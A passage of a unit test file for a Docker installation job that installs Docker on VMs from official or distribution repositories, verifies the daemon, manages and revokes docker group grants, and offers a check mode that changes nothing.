      compose: true,
    });
    expect(needs).toEqual([
      { kind: "docker-ce", replacesDockerIo: true },
      { kind: "compose", channel: "official" },
    ]);
    expect(needs.map(needWords)).toEqual([
      "docker-ce from Docker's repository is not installed (docker.io from the distribution is, and is replaced)",
      "the compose plugin (docker compose) is not installed",
    ]);
  });

  it(
    "a docker.asc an earlier version wrote (the served bytes) is a need of the official channel even with Docker " +
      "complete; not of the distro one",
    () => {
      const complete = {
        cli: "27.0.3",
        compose: "2.29.1",
        active: "active",
        enabled: "enabled",
        packages: CE,
        group: ["ubuntu"],
        users: { ubuntu: ["docker"] },
      };
      const official = { channel: "official" as const, compose: true };
      expect(
        unmetNeeds(parseDockerState(answerLook(dockerLook(["ubuntu"]), inspectOut(complete)), ["ubuntu"]), official),
      ).toEqual([]);
      const legacy = parseDockerState(
        answerLook(dockerLook(["ubuntu"]), inspectOut({ ...complete, legacyKeyring: true })),
        ["ubuntu"],
      );
      expect(unmetNeeds(legacy, official)).toEqual([
        "/etc/apt/keyrings/docker.asc is the key file an earlier version wrote as served (apt trusts every key in " +
          "it): rebuilt from the verified key",
      ]);
      expect(unmetNeeds(legacy, { channel: "distro", compose: true })).toEqual([]);
    },
  );

  it("an installed Docker that fails its verification is restarted once and verified again; the result says so", async () => {
    const state = {
      cli: "27.0.3",
      compose: "2.29.1",
      active: "active",
      enabled: "enabled",
      packages: CE,
      group: ["ubuntu"],
      users: { ubuntu: ["docker"] },
    };
    const { result, remote, error } = await run({ verify: "daemon" }, [
      os(),
      look(state),
      {
        ...info(),
        code: 1,
        stdout: "",
        stderr: "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?\n",
      },
      { match: /^systemctl restart docker\.service$/, sudo: true },
      info(),
    ]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true);
    expect(result!.changed).toBe(true);
    expect(result!.changes).toEqual([
      expect.stringMatching(
        /^restarted docker\.service: the installed Docker failed its verification \(Docker was installed but the daemon does not answer/,
      ),
    ]);
    expect(result!.verify).toEqual({ mode: "daemon", detail: "docker info: server version 27.0.3" });
  });

  it("an installed Docker still failing after the restart fails the job with the verification's words", async () => {
    const state = {
      cli: "27.0.3",
      compose: "2.29.1",
      active: "active",
      enabled: "enabled",
      packages: CE,
      group: ["ubuntu"],
      users: { ubuntu: ["docker"] },
    };
    const down = { ...info(), code: 1, stdout: "", stderr: "Cannot connect to the Docker daemon\n" };
    const { remote, error } = await run({ verify: "daemon" }, [
      os(),
      look(state),
      down,
      { match: /^systemctl restart docker\.service$/, sudo: true },
      down,
    ]);
    expect(remote.done).toBe(true);
    expect(error?.message).toMatch(
      /the daemon does not answer: `docker info` exited 1: Cannot connect to the Docker daemon/,
    );
  });

  it("only the service down: started again, no apt and no network (the repository is not asked)", async () => {
    const { result, remote, error } = await run({ verify: "daemon" }, [
      os(),
      look({
        cli: "27.0.3",
        compose: "2.29.1",
        active: "inactive",
        enabled: "disabled",
        packages: CE,
        group: ["ubuntu"],
        users: { ubuntu: ["docker"] },
      }),
      { match: "systemctl enable --now docker.service", sudo: true },
      info(),
    ]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true);
    expect(result).toMatchObject({
      status: "ok",
      changed: true,
      changes: ["enabled docker.service", "started docker.service"],
      apt_update: { ran: false },
    });
    expect(result!.summary).toBe(
      "Docker 27.0.3 (server 27.0.3) was installed; its service was not running and now is, compose 2.29.1",
    );
  });

  it("a user that does not exist fails before anything changes", async () => {
    const { error, remote } = await run({ users: ["ubuntu", "ghost"] }, [
      os(),
      look({ users: { ubuntu: ["ubuntu"], ghost: null } }),
    ]);
    expect(remote.done).toBe(true);
    expect(error?.message).toBe(
      "install-docker failed while installing: user ghost does not exist on the VM, so it cannot join the docker " +
        "group: create them first or remove them from users. Nothing was changed.",
    );
  });
});

describe("install-docker: what it granted, it takes back (inventory in /var/lib/vm-install/grants.json)", () => {
  const running = { cli: "27.0.3", compose: "2.29.1", active: "active", enabled: "enabled", packages: CE };
  const members = (...names: string[]) => ({
    ...running,
    group: names,
    users: Object.fromEntries(["ubuntu", "deploy"].map((u) => [u, names.includes(u) ? [u, "docker"] : [u]])),
  });

  it(
    "a member vm-install added and users no longer lists leaves the group; the inventory forgets them, other " +
      "installers' records and the daemon.json record kept",
    async () => {
      // The file holds the key as vm-install wrote it: the record holds, and is kept.
      const daemonJson = { debug: true };
      const inventory = {
        version: 1,
        docker: { group_members: ["ubuntu", "deploy"], daemon_json: daemonJson },
        postgres: { roles: [{ cluster: "15/main", name: "a" }] },
      };
      const withFile = look(members("ubuntu", "deploy"));
      withFile.facts = { ...withFile.facts, daemon_json: JSON.stringify(daemonJson) };
      const event = { users: ["ubuntu"], log_rotation: false, daemon_config: daemonJson };
      const { result, remote, error } = await run(event, [
        os(),
        withFile,
        grantsRead(inventory),
        info(), // the daemon is asked in the look, before any change
        { match: /^gpasswd -d deploy docker$/, sudo: true },
        grantsWrite((w) => {
          expect(w.docker).toEqual({ group_members: ["ubuntu"], daemon_json: daemonJson });
          expect(w.postgres).toEqual(inventory.postgres);
        }),
        hello,
      ]);
      expect(error).toBeUndefined();
      expect(remote.done).toBe(true);
      expect(result).toMatchObject({
        changed: true,
        changes: ["revoked: removed deploy from group docker (added by vm-install, no longer in users)"],
        users_added: [],
        revoked: ["group docker: deploy"],
      });
    },
  );

  it("a member vm-install did not add (not in the inventory) is never removed, whatever users says", async () => {
    const { result, remote, error } = await run({ users: ["ubuntu"] }, [
      os(),
      look(members("ubuntu", "deploy")),
      grantsRead({ version: 1, docker: { group_members: [] } }),
      info(),
      hello,
    ]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true);
    expect(remote.calls.some((c) => c.command.includes("gpasswd"))).toBe(false);
    expect(result).toMatchObject({ changed: false, changes: [], revoked: [] });
  });

  it("a user already in the group when first listed is not recorded; one it adds is", async () => {
    const { result, remote } = await run({ users: ["ubuntu", "deploy"] }, [
      os(),
      look(members("ubuntu")),
      grantsRead(),
      info(), // the daemon is asked in the look, before any change
      usermod(["deploy"]),
      grantsWrite((w) =>
        expect(w).toEqual({ version: 1, about: expect.any(String), docker: { group_members: ["deploy"] } }),
      ),
      hello,
    ]);
    expect(remote.done).toBe(true);
    expect(result).toMatchObject({ users_added: ["deploy"], revoked: [] });
  });

  it("joining and leaving in one command; a recorded user gone from the group is simply forgotten", async () => {
    const { result, remote } = await run({ users: ["deploy"] }, [
      os(),
      look(members("ubuntu")),
      grantsRead({ version: 1, docker: { group_members: ["ubuntu", "olduser"] } }),
      info(), // the daemon is asked in the look, before any change
      // olduser left the group since: forgotten first, so a later grant by hand is never revoked.
      grantsRead({ version: 1, docker: { group_members: ["ubuntu", "olduser"] } }),
      grantsWrite((w) => expect(w.docker).toEqual({ group_members: ["ubuntu"] })),
      { match: /^usermod -aG docker deploy && gpasswd -d ubuntu docker$/, sudo: true },
      grantsWrite((w) => expect(w.docker).toEqual({ group_members: ["deploy"] })),
      hello,
    ]);
    expect(remote.done).toBe(true);
    expect(result!.revoked).toEqual(["group docker: ubuntu"]);
    expect(result!.changes[0]).toMatch(/^forgot: olduser in group docker \(not a member now/);
  });

  it("a damaged inventory fails the run before any change, saying how to recover", async () => {
    const { error, remote } = await run({ users: ["ubuntu"] }, [
      os(),
      look(members("ubuntu", "deploy")),
      grantsRead("{not json\n"),
    ]);
    expect(remote.done).toBe(true);
    expect(error?.message).toMatch(
      /\/var\/lib\/vm-install\/grants\.json on the VM is not valid JSON .*remove it to make the project forget what it granted/,
    );
  });

  it("the group's members come from getent", () => {
    expect(groupMembers("docker:x:999:ubuntu,deploy")).toEqual(["ubuntu", "deploy"]);
    expect(groupMembers("docker:x:999:")).toEqual([]);
    expect(planGroup({ groupMembers: ["a", "b"], users: new Map([["a", ["docker"]]]) }, ["a"], ["b"])).toEqual({
      add: [],
      revoke: ["b"],
      record: [],
    });
  });
});

describe("install-docker: distro channel", () => {
  it("Debian 12: docker.io and, of the compose packages, the one apt offers (docker-compose v1), noted", async () => {
    const { result, remote, error } = await run({ channel: "distro", verify: "daemon" }, [
      os(DEBIAN_12),
      look({}),
      update,
      policy(
        "docker.io docker-compose-v2 docker-compose-plugin docker-compose",
        policyBlock("docker.io", "20.10.24+dfsg1-1+b3") + policyBlock("docker-compose", "1.29.2-3"),
      ),
      install("docker.io docker-compose"),
      look({
        cli: "20.10.24+dfsg1",
        composeV1: "1.29.2",
        active: "active",
        enabled: "enabled",
        packages: { "docker.io": "20.10.24+dfsg1-1+b3", "docker-compose": "1.29.2-3" },
        group: [],
      }),
      grantsRead(),
      usermod(["ubuntu"]),
      grantsWrite((w) => expect(w.docker).toEqual({ group_members: ["ubuntu"] })),
      info("20.10.24+dfsg1"),
    ]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true);
    expect(result).toMatchObject({
      status: "ok",
      channel: "distro",
      docker_version: "20.10.24+dfsg1",
      compose_command: "docker-compose",
      compose_version: "1.29.2",
      changed: true,
      changes: ["installed docker.io docker-compose", "added ubuntu to group docker"],
      warnings: [
        "the distribution's compose is docker-compose 1.29.2-3: compose v1 (Python), called as docker-compose; " +
          'channel "official" has v2',
      ],
    });
    expect(result!.repository).toBeUndefined();
  });

  it("Ubuntu: prefers docker-compose-v2 when apt offers it", async () => {
    const { result, error } = await run({ channel: "distro", verify: "daemon", users: [] }, [
      os(UBUNTU_2204),
      look({}),
      update,
      policy(
        "docker.io docker-compose-v2",
        policyBlock("docker.io", "24.0.7-0ubuntu2~22.04.1") +
          policyBlock("docker-compose-v2", "2.24.6+ds1-0ubuntu1~22.04.1") +
          policyBlock("docker-compose", "1.29.2-1"),
      ),
      install("docker.io docker-compose-v2"),
      look({
        cli: "24.0.7",
        compose: "2.24.6+ds1-0ubuntu1~22.04.1",
        active: "active",
        enabled: "enabled",
        packages: { "docker.io": "24.0.7-0ubuntu2~22.04.1" },
        group: [],
      }),
      info("24.0.7"),
    ]);
    expect(error).toBeUndefined();
    expect(result).toMatchObject({ compose_command: "docker compose", warnings: [] });
  });

  it("Ubuntu 24.04 (noble): noble's docker.io and docker-compose-v2 (noble-updates), not v1's docker-compose", async () => {
    const { result, remote, error } = await run({ channel: "distro", verify: "daemon", users: [] }, [
      os(UBUNTU_2404),
      look({}),
      update,
      policy(
        "docker.io docker-compose-v2",
        policyBlock("docker.io", "28.2.2-0ubuntu1~24.04.1") +
          policyBlock("docker-compose-v2", "2.37.1+ds1-0ubuntu2~24.04.1") +
          policyBlock("docker-compose", "1.29.2-6ubuntu1"),
      ),
      install("docker.io docker-compose-v2"),
      look({
        cli: "28.2.2",
        compose: "2.37.1+ds1-0ubuntu2~24.04.1",
        active: "active",
        enabled: "enabled",
        packages: { "docker.io": "28.2.2-0ubuntu1~24.04.1", "docker-compose-v2": "2.37.1+ds1-0ubuntu2~24.04.1" },
        group: [],
      }),
      info("28.2.2"),
    ]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true);
    expect(result).toMatchObject({
      status: "ok",
      channel: "distro",
      docker_version: "28.2.2",
      compose_command: "docker compose",
      changes: ["installed docker.io docker-compose-v2"],
      warnings: [],
      os: { id: "ubuntu", codename: "noble" },
    });
    expect(result!.repository).toBeUndefined();
  });

  it("no docker.io candidate: says where it lives on Ubuntu", async () => {
    const { error } = await run({ channel: "distro", compose: false }, [
      os(UBUNTU_2204),
      look({}),
      update,
      policy("docker.io", ""),
    ]);
    expect(error?.message).toMatch(
      /the distribution's repositories offer no docker\.io on the VM; on Ubuntu it is in "universe"/,
    );
  });
});

describe("install-docker: verify modes and failures", () => {
  const installed = {
    cli: "27.0.3",
    compose: "2.29.1",
    active: "active",
    enabled: "enabled",
    packages: CE,
    group: ["ubuntu"],
    users: { ubuntu: ["docker"] },
  };
  const toInstall = (verifyMode: string, tailSteps: Step[]) =>
    run({ verify: verifyMode, channel: "distro", compose: false }, [
      os(),
      look({}),
      update,
      policy("docker.io", policyBlock("docker.io", "24.0.7-0ubuntu2~22.04.1")),
      install("docker.io"),
      look(installed),
      ...tailSteps,
    ]);

  it("hello-world that cannot pull names the registry and the daemon mode", async () => {
    const { error } = await toInstall("hello-world", [
      info(),
      {
        match: "docker run --rm hello-world",
        code: 125,
        stderr:
          'docker: Error response from daemon: Get "https://registry-1.docker.io/v2/": dial tcp: lookup ' +
          "registry-1.docker.io: no such host.\n",
      },
      { match: "docker info --format '{{json .RegistryConfig.Mirrors}}'", sudo: true, stdout: "[]\n" },
    ]);
    expect(error?.message).toMatch(
      /Docker is installed and its daemon runs \(server 27\.0\.3\), but `docker run --rm hello-world` failed \(exit 125\): docker: Error response from daemon: .*no such host\.\. The VM must reach Docker Hub .* set verify to "daemon"\./s,
    );
  });

  it("daemon mode does not run a container", async () => {
    const { result, remote } = await toInstall("daemon", [info()]);
    expect(remote.calls.some((c) => c.command.includes("docker run"))).toBe(false);
    expect(result!.verify).toEqual({ mode: "daemon", detail: "docker info: server version 27.0.3" });
  });

  it("a daemon that does not answer fails the job with where to look", async () => {
    const { error } = await toInstall("daemon", [
      {
        match: "docker info",
        code: 1,
        stderr: "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?\n",
      },
    ]);
    expect(error?.message).toMatch(
      /the daemon does not answer: `docker info` exited 1: Cannot connect to the Docker daemon.*journalctl -u docker/s,
    );
  });

  it("a service that does not start shows the journal", async () => {
    const { error } = await run({ channel: "distro", compose: false, verify: "daemon" }, [
      os(),
      look({}),
      update,
      policy("docker.io", policyBlock("docker.io", "24.0.7-0ubuntu2~22.04.1")),
      install("docker.io"),
      look({ ...installed, active: "failed" }),
      {
        match: "systemctl start docker.service",
        sudo: true,
        code: 1,
        stderr: "Job for docker.service failed because the control process exited with error code.\n",
      },
      {
        match: "journalctl -u docker.service",
        sudo: true,
        stdout: "unable to configure the Docker daemon with file /etc/docker/daemon.json: invalid character\n",
      },
    ]);
    expect(error?.message).toMatch(
      /docker\.service did not start \(systemctl start docker\.service\): Job for docker\.service failed[\s\S]*journalctl -u docker\.service[\s\S]*daemon\.json: invalid character[\s\S]*run the job again/,
    );
  });
});

describe("install-docker: parsing", () => {
  it("reads versions the way the tools print them", () => {
    expect(versionIn("Docker version 20.10.24+dfsg1, build 297e128")).toBe("20.10.24+dfsg1");
    expect(versionIn("Docker Compose version v2.29.1")).toBe("2.29.1");
    expect(versionIn("Docker Compose version 2.24.6+ds1-0ubuntu1~22.04.1")).toBe("2.24.6+ds1-0ubuntu1~22.04.1");
    expect(versionIn("docker-compose version 1.29.2, build unknown")).toBe("1.29.2");
  });

  it("takes an error text from systemctl as no state", () => {
    const state = parseDockerState(
      answerLook(dockerLook([]), {
        active: { text: "System has not been booted with systemd as init system (PID 1). Can't operate.\n", code: 1 },
        enabled: { text: "Failed to get unit file state for docker.service: No such file or directory\n", code: 1 },
      }),
      [],
    );
    expect(state.active).toBe("");
    expect(state.enabled).toBe("");
  });
});

describe("install-docker: check mode (check: true) foresees, changes nothing", () => {
  const running = {
    cli: "27.0.3",
    compose: "2.29.1",
    active: "active",
    enabled: "enabled",
    packages: CE,
    group: ["ubuntu"],
    users: { ubuntu: ["docker"] },
  };
  /** The double saw nothing that changes a VM: no marked command, no apt-get, no systemctl change, no group change, no write. */
  const expectNothingChanged = (remote: { calls: { command: string; opts: { mutates?: boolean } }[] }) => {
    expect(remote.calls.filter((c) => c.opts.mutates).map((c) => c.command)).toEqual([]);
    const changing =
      /apt-get|systemctl (start|restart|enable|unmask)|usermod|gpasswd|groupadd|mktemp \/var\/lib\/vm-install|cat > "\$t"|docker run|rm -f/;
    expect(remote.calls.map((c) => c.command).filter((c) => changing.test(c))).toEqual([]);
  };

  it("all in place: would_change [], docker info is the only command as root (hello-world is not run)", async () => {
    const { result, remote, error } = await run({ check: true }, [os(), look(running), info()]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true);
    expectNothingChanged(remote);
    expect(remote.calls.filter((c) => c.opts.sudo).map((c) => c.command)).toEqual([
      "docker info --format '{{.ServerVersion}}'",
    ]);
    expect(result).toMatchObject({
      status: "ok",
      changed: false,
      changes: [],
      would_change: [],
      summary: "check: nothing would change; Docker 27.0.3 is installed (server 27.0.3)",
      docker_version: "27.0.3",
      server_version: "27.0.3",
      verify: {
        mode: "hello-world",
        detail: "docker info: server version 27.0.3 (check mode: hello-world is not run)",
      },
      apt_update: { ran: false, reason: "nothing to install" },
    });
  });

  it("service stopped, a user missing from the group, a recorded user to revoke: the three lines, none of it done", async () => {
    const inventory = { version: 1, docker: { group_members: ["ubuntu", "deploy"] } };
    const state = {
      ...running,
      active: "inactive",
      group: ["ubuntu"],
      users: { ubuntu: ["ubuntu", "docker"], ops: ["ops"] },
    };
    const { result, remote, error } = await run({ check: true, users: ["ops"] }, [
      os(),
      look(state),
      grantsRead(inventory),
    ]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true); // no systemctl start, no usermod/gpasswd, no grants write, no docker info
    expectNothingChanged(remote);
    expect(result).toMatchObject({
      changed: false,
      changes: [],
      would_change: [
        "forgot: deploy in group docker (not a member now: removed since vm-install added them; a later grant is " +
          "the admin's, never revoked)",
        "started docker.service",
        "added ops to group docker",
        "revoked: removed ubuntu from group docker (added by vm-install, no longer in users)",
      ],
      users_added: [],
      revoked: [],
      docker_version: "27.0.3",
      verify: { mode: "hello-world", detail: "not verified in check mode: docker.service is inactive" },
    });
    expect(result!.server_version).toBeUndefined();
  });

  it("a daemon that does not answer: the restart is foreseen, not made", async () => {
    const down = {
      ...info(),
      code: 1,
      stdout: "",
      stderr: "Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?\n",
    };
    const { result, remote, error } = await run({ check: true, verify: "daemon" }, [os(), look(running), down]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true);
    expectNothingChanged(remote);
    // The real run's words, up to what only the restart would tell ("and passes it now").
    expect(result!.would_change).toEqual([
      expect.stringMatching(
        /^restarted docker\.service: the installed Docker failed its verification \(Docker was installed but the daemon does not answer: `docker info` exited 1: Cannot connect to the Docker daemon .*\)$/,
      ),
    ]);
    expect(result!.would_change![0]).not.toContain("passes it now");
    expect(result!.server_version).toBeUndefined();
  });

  it("distro channel without docker.io: the install apt would make, from the lists as they are; no apt-get at all", async () => {
    const { result, remote, error } = await run({ check: true, channel: "distro" }, [
      os(DEBIAN_12),
      look({}),
      policy(
        "docker.io docker-compose-v2 docker-compose-plugin docker-compose",
        policyBlock("docker.io", "20.10.24+dfsg1-1+b3") + policyBlock("docker-compose", "1.29.2-3"),
      ),
      grantsRead(),
    ]);
    expect(error).toBeUndefined();
    expect(remote.done).toBe(true);
    expectNothingChanged(remote);
    expect(remote.implicit).toHaveLength(1); // dpkg's health looked at, as before any apt work
    expect(result).toMatchObject({
      changed: false,
      would_change: [
        "installed docker.io docker-compose",
        "enabled docker.service",
        "started docker.service",
        "added ubuntu to group docker",
      ],
      warnings: [
        "the distribution's compose is docker-compose 1.29.2-3: compose v1 (Python), called as docker-compose; " +
          'channel "official" has v2',
      ],
      apt_update: { ran: false, reason: expect.stringMatching(/^check mode: /) },
      packages: {},
      verify: { detail: "not verified in check mode: Docker is not installed" },
    });
    expect(result!.docker_version).toBeUndefined();
  });

  it(
    "distro channel, lists offering nothing: the install is still foreseen, with a warning that the lists may be " +
      "stale",
    async () => {
      const { result, error } = await run({ check: true, channel: "distro", compose: false, users: [] }, [
        os(),
        look({}),
        policy("docker.io", ""),
      ]);
      expect(error).toBeUndefined();
      expect(result!.would_change).toEqual(["installed docker.io", "enabled docker.service", "started docker.service"]);
      expect(result!.warnings).toEqual([
        "the VM's current package lists offer no docker.io: a real run refreshes them first, which may change that",
      ]);
    },
  );

  it(
    "official channel over docker.io: removal and install foreseen, the repository named; no apt source written, " +
      "no key fetched",
    async () => {
      const dockerIo = {
        cli: "20.10.24+dfsg1",
        active: "active",
        enabled: "enabled",
        packages: { "docker.io": "20.10.24+dfsg1-1+b3", containerd: "1.6.20~ds1-1+b1", runc: "1.1.5+ds1-1+deb12u1" },
        group: ["ubuntu"],
        users: { ubuntu: ["docker"] },
      };
      const { result, remote, error } = await run({ check: true, compose: false }, [
        os(DEBIAN_12),
        look(dockerIo),
        policy("docker-ce docker-ce-cli containerd.io docker-buildx-plugin", ""),
        info("20.10.24+dfsg1"),
      ]);
      expect(error).toBeUndefined();
      expect(remote.done).toBe(true);
      expectNothingChanged(remote);
      // The look itself asks whether the legacy docker.asc exists (`test -e`); nothing else goes near apt's files.
      const touching = remote.calls.filter((c) =>
        /curl -f|\/etc\/apt\/sources\.list\.d|\/etc\/apt\/keyrings/.test(c.command),
      );
      expect(touching.map((c) => c.command.match(/test -e [^\s)]+|curl -f|\/etc\/apt\/\S+/g))).toEqual([
        ["test -e /etc/apt/keyrings/docker.asc"],
      ]);
      expect(result).toMatchObject({
        changed: false,
        would_change: [
          "Docker's apt repository https://download.docker.com/linux/debian bookworm stable configured in " +
            "/etc/apt/sources.list.d/docker.list with its key from " +
            "https://download.docker.com/linux/debian/gpg (if not already as wanted: a check does not fetch the key; " +
            "older entries for the same repository are removed)",
          "removed docker.io containerd runc",
          "installed docker-ce docker-ce-cli containerd.io docker-buildx-plugin",
        ],
        docker_version: "20.10.24+dfsg1",
        server_version: "20.10.24+dfsg1",
        removed: [],
        packages: { "docker.io": "20.10.24+dfsg1-1+b3", containerd: "1.6.20~ds1-1+b1", runc: "1.1.5+ds1-1+deb12u1" },
      });
      expect(result!.warnings).toEqual([
        expect.stringMatching(/^the VM's current package lists offer no docker-ce, docker-ce-cli, containerd\.io: /),
      ]);
      expect(result!.repository).toBeUndefined();
    },
  );

  it(
    "official channel from nothing: the prerequisites first; with the repository in the lists, what it lacks is " +
      "skipped as a real run does",
    async () => {
      const withoutBuildx = officialOffer().replace(/docker-buildx-plugin:[\s\S]*?(?=docker-compose-plugin:)/, "");
      const { result, remote, error } = await run({ check: true, users: [] }, [
        os(),
        look({ curl: false, packages: { curl: "" } }),
        policy(OFFICIAL_ALL, withoutBuildx),
      ]);
      expectNothingChanged(remote);
      expect(error).toBeUndefined();
      expect(result!.would_change).toEqual([
        "installed curl",
        expect.stringMatching(
          /^Docker's apt repository https:\/\/download\.docker\.com\/linux\/ubuntu jammy stable configured/,
        ),
        "installed docker-ce docker-ce-cli containerd.io docker-compose-plugin",
        "enabled docker.service",
        "started docker.service",
      ]);
      expect(result!.warnings).toEqual([
        "docker-buildx-plugin is not offered by https://download.docker.com/linux/ubuntu; skipped",
      ]);
    },
  );
});
